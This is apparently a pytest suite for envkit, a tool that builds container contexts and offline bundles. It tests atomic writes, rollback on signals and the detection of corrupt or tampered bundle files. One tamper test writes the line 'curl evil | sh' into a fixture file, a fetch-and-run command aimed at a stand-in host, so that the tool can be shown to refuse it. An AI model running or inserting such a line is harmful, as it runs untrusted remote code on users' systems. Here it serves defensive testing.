"""generate and bundle are all-or-nothing and never re-bless corrupt data (issue 14; fuzz report items 4, 5, 6,
7 and its area 4; the newcomer review's "bundle with no engine leaves a half-written bundle directory").

Plain files and an engine of plain data; pip downloads from a PEP 503 index on 127.0.0.1."""
from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import tarfile
import zipfile
from functools import partial
from http.server import SimpleHTTPRequestHandler
from pathlib import Path
from typing import Any, Callable, Optional

import pytest

from envkit.adapters import context_dir
from envkit.adapters.bundle_dir import MANIFEST, read_manifest, recheck, verify, write_manifest
from envkit.app.build import BuildRequest, build
from envkit.app.bundle import Bundled, make_bundle
from envkit.app.generate import generate
from envkit.errors import ExternalError, InputError, PreflightError
from envkit.model.flags import ResolveFlags
from envkit.model.plan import Options
from servers import serve, write_simple_index

ROOT = Path(__file__).resolve().parent.parent
CPU = ResolveFlags(platform="cpu", torch="2.13.0")
H100 = ResolveFlags(gpu="H100", cuda="12.8", flash_attn="2.7.4.post1", kernels="layer_norm,rotary")
H200 = ResolveFlags(gpu="H200", cuda="13.0", flash_attn="2.7.4.post1", kernels="layer_norm,rotary")


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under root with its bytes, and every directory (as None-free marker b"<dir>")."""
    return {p.relative_to(root).as_posix(): (p.read_bytes() if p.is_file() else b"<dir>") for p in sorted(root.rglob("*"))}


def staging_dirs(root: Path) -> list[str]:
    return [p.name for p in root.glob(".envkit-staging-*")]


# ----------------------------------------------------------------- generate: all or nothing (fuzz report 7)


def test_fuzz7_a_directory_where_a_file_goes_is_refused_before_anything_is_renamed(tmp_path):
    """Fuzz report 7's reproducer: regenerating over a context whose envkit.plan.json is now a directory exited 2
    but left the new stack's Dockerfile and lock beside the old solution.json."""
    g1 = tmp_path / "g1"
    generate(CPU, out=str(g1))
    (g1 / "envkit.plan.json").unlink()
    (g1 / "envkit.plan.json" / "x").mkdir(parents=True)
    before = snapshot(g1)
    with pytest.raises(InputError) as e:
        generate(H100, out=str(g1))
    assert e.value.exit_code == 2
    assert "envkit.plan.json is a directory where envkit writes a file" in e.value.message and "nothing was changed" in e.value.fix
    assert snapshot(g1) == before
    assert b"cpu" in (g1 / "envkit" / "solution.json").read_bytes() and b"torch==2.13.0+cpu" in (g1 / "Dockerfile").read_bytes()


def test_fuzz7_a_file_where_a_directory_goes_is_refused_before_anything_is_renamed(tmp_path):
    g1 = tmp_path / "g1"
    generate(CPU, out=str(g1))
    for p in sorted((g1 / "envkit").rglob("*"), reverse=True):
        p.unlink()
    (g1 / "envkit").rmdir()
    (g1 / "envkit").write_text("a file")
    before = snapshot(g1)
    with pytest.raises(InputError, match="envkit is a file where envkit writes a directory"):
        generate(H100, out=str(g1))
    assert snapshot(g1) == before


class FailingReplace:
    """os.replace as context_dir calls it, failing (or raising a signal) at call number `at`, and running `then`
    (if given) at the call after it: the first call of the rollback."""

    def __init__(self, at: int, action: Callable[[], None], then: Optional[Callable[[], None]] = None) -> None:
        self.at, self.action, self.then, self.calls = at, action, then, 0
        self.real = os.replace

    def __call__(self, src: Any, dst: Any) -> None:
        self.calls += 1
        if self.calls == self.at:
            self.action()
        if self.calls == self.at + 1 and self.then is not None:
            self.then()
        self.real(src, dst)


def _disk_full() -> None:
    raise OSError(28, "No space left on device")


@pytest.mark.parametrize("at", [1, 2, 5, 7, 8])
def test_fuzz7_a_rename_that_fails_part_way_puts_the_old_context_back(tmp_path, monkeypatch, at):
    """H200 (flash-attn, kernels) regenerated as CPU: 7 files renamed in, then the stale build_flash_attn.py moved
    aside (the 8th rename). A failure at any of them leaves the H200 context exactly as it was."""
    ctx = tmp_path / "ctx"
    generate(H200, out=str(ctx))
    (ctx / "NOTES.md").write_text("mine")
    before = snapshot(ctx)
    replace = FailingReplace(at, _disk_full)
    monkeypatch.setattr(context_dir.os, "replace", replace)
    with pytest.raises(InputError, match="cannot write to .*No space left on device"):
        generate(CPU, out=str(ctx))
    assert replace.calls >= at  # it failed there (the calls after it put the old files back)
    monkeypatch.undo()
    assert snapshot(ctx) == before and not staging_dirs(ctx)
    generate(CPU, out=str(ctx))  # and the next run goes through
    assert not (ctx / "envkit" / "build_flash_attn.py").exists() and (ctx / "NOTES.md").read_text() == "mine"


def test_fuzz7_a_failure_in_a_fresh_directory_leaves_no_directory(tmp_path, monkeypatch):
    replace = FailingReplace(3, _disk_full)
    monkeypatch.setattr(context_dir.os, "replace", replace)
    with pytest.raises(InputError):
        generate(CPU, out=str(tmp_path / "a" / "b"))
    assert not (tmp_path / "a").exists()


@pytest.fixture
def ctrl_c_live():
    """SIGINT as an interactive shell leaves it (Python's KeyboardInterrupt handler): a test run started in the
    background (`cmd &` in a shell without job control, as CI runners and nohup do) inherits it ignored, and an
    ignored SIGINT stays ignored under envkit's guard too, so these tests set it for their own duration."""
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, previous)


@pytest.mark.usefixtures("ctrl_c_live")
def test_fuzz7_ctrl_c_during_the_renames_puts_the_old_context_back(tmp_path, monkeypatch):
    ctx = tmp_path / "ctx"
    generate(H200, out=str(ctx))
    before = snapshot(ctx)
    monkeypatch.setattr(context_dir.os, "replace", FailingReplace(4, lambda: signal.raise_signal(signal.SIGINT)))
    with pytest.raises(KeyboardInterrupt):
        generate(CPU, out=str(ctx))
    monkeypatch.undo()
    assert snapshot(ctx) == before and not staging_dirs(ctx)
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # the handler envkit set is gone


@pytest.mark.usefixtures("ctrl_c_live")
def test_fuzz7_ctrl_c_during_the_rollback_waits_until_the_old_context_is_back(tmp_path, monkeypatch):
    ctx = tmp_path / "ctx"
    generate(H200, out=str(ctx))
    before = snapshot(ctx)
    monkeypatch.setattr(context_dir.os, "replace", FailingReplace(5, _disk_full, then=lambda: signal.raise_signal(signal.SIGINT)))
    with pytest.raises(KeyboardInterrupt):  # the user asked to stop: that wins over the error, once the cleanup is done
        generate(CPU, out=str(ctx))
    monkeypatch.undo()
    assert snapshot(ctx) == before and not staging_dirs(ctx)


SIGTERM_CHILD = """
import os, pathlib, signal, sys
from envkit.adapters import context_dir
from envkit.app.generate import generate
from envkit.model.flags import ResolveFlags

where, at = sys.argv[2], int(sys.argv[3])
calls = [0]
def hit():
    calls[0] += 1
    if calls[0] == at:
        os.kill(os.getpid(), signal.SIGTERM)
if where == "replace":
    real = os.replace
    def replace(src, dst):
        hit()
        real(src, dst)
    context_dir.os.replace = replace
else:
    real_write = pathlib.Path.write_bytes
    def write_bytes(self, data):
        hit()
        return real_write(self, data)
    pathlib.Path.write_bytes = write_bytes
generate(ResolveFlags(platform="cpu", torch="2.13.0"), out=sys.argv[1])
print("finished")
"""


@pytest.mark.parametrize("where, at", [("stage", 3), ("replace", 1), ("replace", 5), ("replace", 8)])
def test_fuzz7_sigterm_while_staging_or_renaming_leaves_the_old_context_and_no_staging(tmp_path, where, at):
    """SIGTERM left a mixed context (1/240) and `.envkit-staging-*` directories (10/240) in the fuzz runs."""
    ctx = tmp_path / "ctx"
    generate(H200, out=str(ctx))
    before = snapshot(ctx)
    p = subprocess.run([sys.executable, "-c", SIGTERM_CHILD, str(ctx), where, str(at)], capture_output=True, text=True,
                       timeout=120, cwd=ROOT)
    assert p.returncode == -signal.SIGTERM, p.stdout + p.stderr  # the process still ends by the signal
    assert "finished" not in p.stdout and "Traceback" not in p.stderr
    assert snapshot(ctx) == before and not staging_dirs(ctx)


def test_fuzz7_sigterm_in_a_fresh_directory_leaves_nothing(tmp_path):
    p = subprocess.run([sys.executable, "-c", SIGTERM_CHILD, str(tmp_path / "g2"), "replace", "2"], capture_output=True,
                       text=True, timeout=120, cwd=ROOT)
    assert p.returncode == -signal.SIGTERM
    assert not (tmp_path / "g2").exists()


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_fuzz7_staging_left_by_a_killed_run_is_removed_not_a_reason_to_refuse(tmp_path):
    """A SIGKILLed run's `.envkit-staging-*` made the next run in that (otherwise fresh) directory refuse with
    "holds files envkit did not write" (fuzz report 7, G2)."""
    g2 = tmp_path / "g2"
    for name in (".envkit-staging-9b686ebc", f".envkit-staging-{_dead_pid()}-x1y2"):  # the old name; a dead process's
        (g2 / name / "new" / "envkit").mkdir(parents=True)
        (g2 / name / "new" / "Dockerfile").write_text("FROM half")
    live = g2 / f".envkit-staging-{os.getppid()}-busy"  # a running process's: left to it, and no refusal either
    live.mkdir()
    generate(CPU, out=str(g2))
    assert staging_dirs(g2) == [live.name]
    assert b"torch==2.13.0+cpu" in (g2 / "Dockerfile").read_bytes()


def test_a_generated_list_naming_paths_outside_the_context_removes_nothing_there(tmp_path):
    ctx = tmp_path / "ctx"
    generate(CPU, out=str(ctx))
    outside = tmp_path / "precious.txt"
    outside.write_text("keep")
    listing = ctx / "envkit" / ".generated"
    listing.write_text(listing.read_text() + f"{outside}\n../precious.txt\n")
    generate(CPU, out=str(ctx))
    assert outside.read_text() == "keep"


def test_the_dockerignore_keeps_unfinished_downloads_at_any_depth_out():
    """Fuzz report 4: `*.part` in .dockerignore matches top-level files only."""
    text = generate(CPU).files[".dockerignore"].decode()
    assert "**/*.part" in text.splitlines() and "*.part" not in text.splitlines()


# ----------------------------------------------------------------- bundle: the re-run verifies first (fuzz report 5, 6)


def _wheel(name: str, version: str, payload: bytes = b"x" * 4000) -> bytes:
    buf = io.BytesIO()
    dist = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(f"{name}/__init__.py", payload)
        z.writestr(f"{dist}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        z.writestr(f"{dist}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: false\nTag: cp311-cp311-manylinux_2_28_x86_64\n")
        z.writestr(f"{dist}/RECORD", "")
    return buf.getvalue()


def _tarball(payload: bytes = b"y" * 4000) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        info = tarfile.TarInfo("src/a.c")
        info.size = len(payload)
        t.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


def _flip(p: Path, at: Optional[int] = None) -> None:
    data = bytearray(p.read_bytes())
    i = len(data) // 2 if at is None else at
    data[i] ^= 0xFF
    p.write_bytes(bytes(data))


@pytest.fixture
def plain_bundle(tmp_path) -> Path:
    """A bundle of plain files: lock, plan, a wheel, a source tarball, a deb, a base image tarball, and its manifest."""
    b = tmp_path / "b"
    (b / "wheelhouse").mkdir(parents=True)
    (b / "sources").mkdir()
    (b / "debs" / "build").mkdir(parents=True)
    (b / "images").mkdir()
    (b / "envkit.lock.json").write_text("{}")
    (b / "Dockerfile").write_text("FROM base\n")
    (b / "envkit.plan.json").write_text(json.dumps({"offline": True, "context": [{"path": "wheelhouse/"},
                                                                                 {"path": "sources/a-1.tar.gz"}]}))
    (b / "wheelhouse" / "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(_wheel("torch", "2.13.0+cpu"))
    (b / "sources" / "a-1.tar.gz").write_bytes(_tarball())
    (b / "debs" / "build" / "p_1_amd64.deb").write_bytes(b"!<arch>\n...")
    (b / "images" / "base.tar").write_bytes(b"image layers")
    write_manifest(b, [{"ref": "base:1", "file": "images/base.tar", "id": "sha256:x"}])
    return b


GENERATED = {"Dockerfile", "envkit.lock.json", "envkit.plan.json"}
WHEEL = "wheelhouse/torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"


def test_fuzz5_a_flipped_byte_in_a_carried_wheel_is_removed_before_pip_runs(plain_bundle):
    _flip(plain_bundle / WHEEL)
    assert zipfile.ZipFile(plain_bundle / WHEEL).testzip() is not None  # corrupt, yet still a zip pip would take
    found = recheck(plain_bundle, read_manifest(plain_bundle), GENERATED, set(), force=False)
    assert found.doomed == [(WHEEL, "its size or sha256 differs from the manifest")]
    assert set(found.kept) == {"sources/a-1.tar.gz", "debs/build/p_1_amd64.deb", "images/base.tar"}


@pytest.mark.parametrize("manifest", ["truncated", "not json", "empty"])
def test_fuzz6_an_unreadable_manifest_is_treated_as_absent_and_files_checked_on_their_own(plain_bundle, manifest):
    """Fuzz report 6 (B3): a truncated manifest.json made the re-run crash with JSONDecodeError."""
    mf = plain_bundle / MANIFEST
    mf.write_bytes({"truncated": mf.read_bytes()[:40], "not json": b"\xff\xfe{", "empty": b""}[manifest])
    old = read_manifest(plain_bundle)
    assert old.state == "unreadable" and not old.files
    wheel = plain_bundle / WHEEL
    wheel.write_bytes(wheel.read_bytes()[:-300])  # truncated: fuzz report 6 (B2), pip's "Wheel ... is invalid" forever
    found = recheck(plain_bundle, old, GENERATED, set(), force=False)
    assert dict(found.doomed) == {WHEEL: "not a readable archive", "debs/build/p_1_amd64.deb": "nothing vouches for it",
                                  "images/base.tar": "nothing vouches for it"}
    assert found.kept == ["sources/a-1.tar.gz"]  # its gzip and tar checks read it through


def test_fuzz6_an_intact_wheel_without_a_manifest_entry_is_kept(plain_bundle):
    (plain_bundle / MANIFEST).unlink()
    found = recheck(plain_bundle, read_manifest(plain_bundle), GENERATED, set(), force=False)
    assert WHEEL in found.kept and read_manifest(plain_bundle).state == "absent"


def test_fuzz4_stray_part_files_are_removed_and_envkits_own_download_kept_to_resume(plain_bundle):
    (plain_bundle / "wheelhouse" / "payload.sh.part").write_text("x")
    (plain_bundle / "sources" / "b-2.tar.gz.part").write_bytes(b"first half")
    (plain_bundle / "sources" / "old-0.tar.gz.part").write_bytes(b"of a source no longer planned")
    found = recheck(plain_bundle, read_manifest(plain_bundle), GENERATED, {"sources/b-2.tar.gz"}, force=False)
    assert found.resumed == ["sources/b-2.tar.gz.part"]
    assert dict(found.doomed) == {"wheelhouse/payload.sh.part": "an unfinished download envkit cannot resume",
                                  "sources/old-0.tar.gz.part": "an unfinished download envkit cannot resume"}


def test_a_fifo_among_the_carried_files_is_removed_not_read(plain_bundle):
    os.mkfifo(plain_bundle / "wheelhouse" / "pipe.whl")
    found = recheck(plain_bundle, read_manifest(plain_bundle), GENERATED, set(), force=False)
    assert ("wheelhouse/pipe.whl", "not a plain file") in found.doomed


def test_a_file_outside_the_carried_directories_is_never_re_blessed_without_force(plain_bundle):
    """An added or edited file envkit cannot fetch again: the re-run refuses before changing anything, unless --force."""
    (plain_bundle / "Dockerfile.evil").write_text("FROM x")
    (plain_bundle / "NOTES.md").write_text("mine")
    write_manifest(plain_bundle, [{"ref": "base:1", "file": "images/base.tar", "id": "sha256:x"}])
    (plain_bundle / "NOTES.md").write_text("changed")
    (plain_bundle / "Dockerfile.evil").unlink()
    (plain_bundle / "added.sh").write_text("curl evil | sh")
    before = snapshot(plain_bundle)
    with pytest.raises(InputError, match=r"holds 2 file\(s\) envkit did not write or cannot verify \(NOTES.md, added.sh\)"):
        recheck(plain_bundle, read_manifest(plain_bundle), GENERATED, set(), force=False)
    assert snapshot(plain_bundle) == before
    assert sorted(recheck(plain_bundle, read_manifest(plain_bundle), GENERATED, set(), force=True).foreign) == ["NOTES.md", "added.sh"]


# ----------------------------------------------------------------- the preflight (fuzz report 4 and area 4)


@pytest.mark.parametrize("rel, problem", [
    ("wheelhouse/payload.sh.part", "unexpected: wheelhouse/payload.sh.part (an unfinished download where envkit downloads nothing"),
    ("debs/build/deep/x.part", "unexpected: debs/build/deep/x.part (an unfinished download"),
    ("x.part", "unexpected: x.part (an unfinished download"),
    ("sources/a-2.tar.gz.part", "unfinished download: sources/a-2.tar.gz.part (the bundle is not complete: re-run envkit bundle)"),
    ("images/base2.tar.part", "unfinished download: images/base2.tar.part"),
])
def test_fuzz4_a_part_file_anywhere_fails_the_preflight(plain_bundle, rel, problem):
    """Fuzz report 4: `printf x > B/wheelhouse/payload.sh.part` still passed the bundle check."""
    assert verify(plain_bundle) == []
    (plain_bundle / rel).parent.mkdir(parents=True, exist_ok=True)
    (plain_bundle / rel).write_text("x")
    problems = verify(plain_bundle)
    assert len(problems) == 1 and problems[0].startswith(problem)


@pytest.fixture
def no_engine(monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent.sock")


@pytest.mark.parametrize("tamper, named", [
    (lambda b: (b / "Dockerfile").unlink(), "missing: Dockerfile"),
    (lambda b: (b / "envkit.plan.json").unlink(), "missing: envkit.plan.json"),
    (lambda b: (b / "envkit.plan.json").write_text("{not json"), "altered: envkit.plan.json"),
    (lambda b: (b / "envkit.plan.json").write_text(json.dumps({**json.loads((b / "envkit.plan.json").read_text()),
                                                                "offline": False})), "altered: envkit.plan.json"),
])
def test_fuzz_area4_a_bundle_missing_or_editing_its_dockerfile_or_plan_is_a_preflight_refusal(tmp_path, no_engine, tamper, named):
    """Fuzz report, area 4: these 4 tamper cases exited 2 (bad input) instead of 5 (preflight refused), unlike the other 29."""
    b = tmp_path / "b"
    generate(CPU, out=str(b), opts=Options(offline=True))
    (b / "images").mkdir()
    (b / "images" / "base.tar").write_bytes(b"layers")
    (b / "wheelhouse").mkdir()
    (b / "wheelhouse" / "w.whl").write_bytes(_wheel("w", "1"))
    for stage in ("build", "runtime"):
        (b / "debs" / stage).mkdir(parents=True)
        (b / "debs" / stage / "Packages").write_text("")
    write_manifest(b, [{"ref": "docker.io/library/debian:bookworm-slim", "file": "images/base.tar", "id": "sha256:x"}])
    assert verify(b) == []
    tamper(b)
    with pytest.raises(PreflightError) as e:
        build(BuildRequest(offline=True, bundle_dir=str(b), dry_run=True))
    assert e.value.exit_code == 5 and named in e.value.message


def test_a_directory_that_is_no_bundle_at_all_stays_bad_input(tmp_path, no_engine):
    (tmp_path / "empty").mkdir()
    with pytest.raises(InputError, match="not an envkit build context"):
        build(BuildRequest(offline=True, bundle_dir=str(tmp_path / "empty"), dry_run=True))


# ----------------------------------------------------------------- bundle end to end, against an engine of plain data


class BundleEngine:
    """What `bundle` asks of a container engine, as plain data: the base image is there, apt finds nothing to carry."""

    def __init__(self, answers: bool = True) -> None:
        self.answers, self.saved = answers, 0

    def info(self) -> dict[str, Any]:
        if not self.answers:
            raise ConnectionError("no engine")
        return {}

    def has_image(self, ref: str) -> bool:
        return True

    def image_id(self, ref: str) -> str:
        return "sha256:" + hashlib.sha256(ref.encode()).hexdigest()

    def run(self, image: str, command: list[str], volumes: Any, network: str = "bridge") -> tuple[int, str]:
        return 0, ""

    def save(self, ref: str, dest: Path, progress: Any = None) -> None:
        self.saved += 1
        dest.write_bytes(b"layers of " + ref.encode())


def test_newcomer_bundle_with_no_engine_writes_nothing(tmp_path, no_engine):
    """The newcomer review: `bundle` with no engine reachable left a half-written bundle directory."""
    with pytest.raises(ExternalError, match="no container engine answers"):
        make_bundle(CPU, out=str(tmp_path / "b"))
    assert not (tmp_path / "b").exists()
    with pytest.raises(ExternalError, match="does not answer"):
        make_bundle(CPU, out=str(tmp_path / "b"), engine=BundleEngine(answers=False))
    assert not (tmp_path / "b").exists()


@pytest.fixture
def index_site(tmp_path, monkeypatch):
    """A PEP 503 index on 127.0.0.1 holding a torch wheel (the CPU stack's one requirement), and a site file naming it."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / WHEEL.split("/")[1]).write_bytes(_wheel("torch", "2.13.0+cpu"))
    index = tmp_path / "index"
    write_simple_index(wheels, index, prefixes=("simple", "torch/cpu"))
    monkeypatch.setenv("PIP_NO_CACHE_DIR", "1")
    monkeypatch.setenv("PIP_DISABLE_PIP_VERSION_CHECK", "1")
    quiet = type("Quiet", (SimpleHTTPRequestHandler,), {"log_message": lambda *a: None})
    with serve(partial(quiet, directory=str(index))) as srv:
        site = tmp_path / "SITE.toml"
        site.write_text(f'[pip]\nindex_url = "http://127.0.0.1:{srv.server_port}/simple"\ntrusted_hosts = ["127.0.0.1"]\n'
                        f'[rewrite]\n"https://download.pytorch.org/whl" = "http://127.0.0.1:{srv.server_port}/torch"\n')
        yield str(site), (wheels / WHEEL.split("/")[1]).read_bytes()


class Said:
    def __init__(self) -> None:
        self.lines: list[str] = []

    def phase(self, name: str) -> None:
        pass

    def say(self, message: str) -> None:
        self.lines.append(message)

    def transfer(self, name: str) -> Any:
        import contextlib

        return contextlib.nullcontext(lambda done, total: None)


def _bundle(out: Path, site: str, reporter: Any = None) -> Bundled:
    b = make_bundle(CPU, out=str(out), mirror=site, engine=BundleEngine(), **({"reporter": reporter} if reporter else {}))
    assert isinstance(b, Bundled)
    return b


def test_fuzz5_a_rerun_fetches_a_corrupted_wheel_again_instead_of_blessing_it(tmp_path, index_site):
    """Fuzz report 5 (B1): after a flipped byte, re-running bundle as the preflight advises wrote a new manifest over the
    corrupt wheel ("File was already downloaded") and the preflight then passed."""
    site, good = index_site
    b = tmp_path / "b"
    _bundle(b, site)
    assert verify(b) == [] and (b / WHEEL).read_bytes() == good
    _flip(b / WHEEL)
    assert verify(b) == [f"altered: {WHEEL} (sha256 differs from the manifest)"]
    said = Said()
    again = _bundle(b, site, said)
    assert not again.report.complete_already
    assert (b / WHEEL).read_bytes() == good and verify(b) == []
    assert f"removed {WHEEL} (its size or sha256 differs from the manifest): fetching it again" in said.lines
    assert WHEEL in again.report.downloaded


@pytest.mark.parametrize("damage", ["truncate the wheel", "truncate the manifest", "both"])
def test_fuzz6_a_truncated_wheel_or_manifest_is_repaired_by_one_rerun(tmp_path, index_site, damage):
    """Fuzz report 6: a truncated wheel made every re-run fail in pip ("Wheel ... is invalid", advice: run again), a
    truncated manifest made it crash with JSONDecodeError."""
    site, good = index_site
    b = tmp_path / "b"
    _bundle(b, site)
    if damage != "truncate the manifest":
        (b / WHEEL).write_bytes(good[: len(good) // 2])
    if damage != "truncate the wheel":
        (b / MANIFEST).write_bytes((b / MANIFEST).read_bytes()[:100])
    said = Said()
    _bundle(b, site, said)
    assert (b / WHEEL).read_bytes() == good and verify(b) == []
    if damage != "truncate the wheel":
        assert any(line.startswith("manifest.json is unreadable: treated as absent") for line in said.lines)


def test_a_complete_bundle_rerun_downloads_nothing_and_a_stray_part_file_is_cleaned(tmp_path, index_site):
    site, _ = index_site
    b = tmp_path / "b"
    first = _bundle(b, site)
    assert _bundle(b, site).report.complete_already
    (b / "wheelhouse" / "payload.sh.part").write_text("x")
    assert verify(b) != []
    again = _bundle(b, site)
    assert not again.report.complete_already and verify(b) == [] and again.report.files == first.report.files
